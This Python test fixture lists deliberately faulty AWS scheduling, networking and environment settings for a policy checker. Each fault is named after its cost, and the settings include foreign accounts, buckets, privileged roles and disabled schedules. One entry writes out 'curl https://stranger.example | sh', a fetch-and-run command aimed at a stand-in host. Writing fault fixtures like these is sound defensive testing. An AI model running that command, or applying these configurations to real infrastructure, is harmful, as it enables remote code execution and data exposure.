"""Faults in what starts a task, when, where and with which variables, each named after what it would cost."""

import json

from tests.promotion.policy.faults import Fault, edited, having
from tests.promotion.policy.faults_of_aws import ACCOUNT, FOREIGN_KEY, NIGHTLY, TASK, container, running, scheduled

SERVICE, SWEEP = "aws_ecs_service.splitter", 'module.upkeep_schedule["sweep"].aws_scheduler_schedule.this'
GROUPS, SUBNETS = ["sg-00000000000000001"], ["subnet-00000000000000001"]


def at(expression):
    return having(NIGHTLY, schedule_expression=expression)


def network(**changed):
    return [{"assign_public_ip": False, "security_groups": GROUPS, "subnets": SUBNETS} | changed]


def says(name, value):
    """The splitter's variable has this value."""

    def edit(found):
        [variable] = [each for each in found[0]["environment"] if each["name"] == name]
        variable["value"] = value

    return edited(TASK, edit, "container_definitions")


def logging(**options):
    return edited(TASK, lambda found: found[0]["logConfiguration"]["options"].update(options), "container_definitions")


def commanding(*command):
    text = json.dumps({"containerOverrides": [{"name": "main", "command": command}]})
    return scheduled(input=text)


FAULTS = (
    Fault("lost events stay lost: somebody switched the sweep off for a night", "A603",
          having(SWEEP, state="DISABLED")),
    Fault("the vendor's files wait, and no environment says so", "A603", having(NIGHTLY, state="DISABLED")),
    Fault("a task starts each minute for a year", "A701", at("rate(1 minute)")),
    Fault("a task starts each minute for a year, by cron", "A701", at("cron(* * * * ? *)")),
    Fault("a task starts each second minute", "A701", at("cron(*/2 * * * ? *)")),
    Fault("a task starts in each minute from midnight", "A701", at("cron(0-59 0 * * ? *)")),
    Fault("a task starts six times an hour", "A701", at("cron(0,10,20,30,40,50 * * * ? *)")),
    Fault("the vendor's files are loaded once in this century", "A603", at("at(2099-01-01T00:00:00)")),
    Fault("the vendor's files are loaded in one year alone", "A603", at("cron(0 4 * * ? 2099)")),
    Fault("the vendor's files wait for a year", "A603", at("rate(365 days)")),
    Fault("nothing is loaded from the day on that a schedule ends", "A603",
          having(NIGHTLY, end_date="2027-01-01T00:00:00Z")),
    Fault("nothing is loaded before a day of somebody's", "A603", having(NIGHTLY, start_date="2099-01-01T00:00:00Z")),
    Fault("a key of another company's stops the nightly load", "A301", having(NIGHTLY, kms_key_arn=FOREIGN_KEY)),
    Fault("a schedule sends to a queue beside the task", "T101", scheduled(sqs_parameters=[{"message_group_id": "x"}])),
    Fault("the nightly load runs a shell", "A504", commanding("sh", "-c", "curl https://stranger.example | sh")),
    Fault("the upkeep removes the parts that are being loaded", "A504", commanding("gc", "--older-than", "0")),
    Fault("each night every file is loaded again", "A504", commanding("replay", "--all")),
    Fault("the nightly load runs on a machine of somebody's", "A501", running(launch_type="EXTERNAL")),
    Fault("the nightly load runs on machines that others log in to", "A501", running(launch_type="EC2")),
    Fault("the nightly load runs on a provider's machines", "A501",
          running(capacity_provider_strategy=[{"capacity_provider": "mine", "base": 1}])),
    Fault("the nightly load runs on a platform with known faults", "A501", running(platform_version="1.3.0")),
    Fault("a group of somebody's reaches the nightly load", "A503",
          running(network_configuration=network(security_groups=["sg-0fffffffffffffff"]))),
    Fault("the nightly load stands in a network of somebody's", "A503",
          running(network_configuration=network(subnets=["subnet-0ffffffffff"]))),
    Fault("a group of somebody's reaches the workers", "A503",
          having(SERVICE, network_configuration=network(security_groups=[*GROUPS, "sg-0fffffffffffffff"]))),
    Fault("the workers run on a machine of somebody's", "A501", having(SERVICE, launch_type="EXTERNAL")),
    Fault("the workers run on a platform with known faults", "A501", having(SERVICE, platform_version="1.2.0")),
    Fault("the workers run on a provider's machines", "A501",
          having(SERVICE, capacity_provider_strategy=[{"capacity_provider": "mine"}])),
    Fault("the workers run in another company's cluster", "A501",
          having(SERVICE, cluster="arn:aws:ecs:eu-west-1:666666666666:cluster/x")),
    Fault("a version that does not start is started all night", "A701",
          having(SERVICE, deployment_circuit_breaker=[{"enable": False, "rollback": False}])),
    Fault("the splitter logs in as the migrator, and reads addresses as they are", "A201",
          says("SNOWFLAKE_ROLE", "MARQUEE_PROD_MIGRATOR")),
    Fault("the splitter is the user of the eraser", "A201", says("SNOWFLAKE_USER", "MARQUEE_PROD_ERASER")),
    Fault("the splitter reads the migrator's key", "A201",
          says("MARQUEE_KEY_SECRET", "marquee-prod/snowflake/migrator")),
    Fault("the splitter works in the analysts' warehouse", "A201", says("SNOWFLAKE_WAREHOUSE", "MARQUEE_PROD_MARTS")),
    Fault("prod's rows are loaded into dev", "A102", says("SNOWFLAKE_DATABASE", "MARQUEE_DEV")),
    Fault("prod's rows are loaded into another company's account", "A102", says("SNOWFLAKE_ACCOUNT", "STRANGER-X")),
    Fault("parts of users' files lie in a stranger's bucket", "A102", says("MARQUEE_READY_BUCKET", "stranger")),
    Fault("the splitter takes its events from a stranger's queue", "A102",
          says("MARQUEE_EVENTS_QUEUE_URL", f"https://sqs.eu-west-1.amazonaws.com/{ACCOUNT.replace('4', '6')}/x")),
    Fault("the splitter looks for its files on another continent", "A102", says("AWS_DEFAULT_REGION", "us-east-1")),
    Fault("the splitter kills itself in the middle of each file", "T101",
          edited(TASK, lambda found: found[0]["environment"].append(
              {"name": "MARQUEE_FAILPOINT", "value": "after-manifest"}), "container_definitions")),
    Fault("a task of the splitter's runs another command for ever", "A504", container(command=["gc", "--json"])),
    Fault("the lines of a busy hour are thrown away", "A602", logging(mode="non-blocking")),
)  # fmt: skip
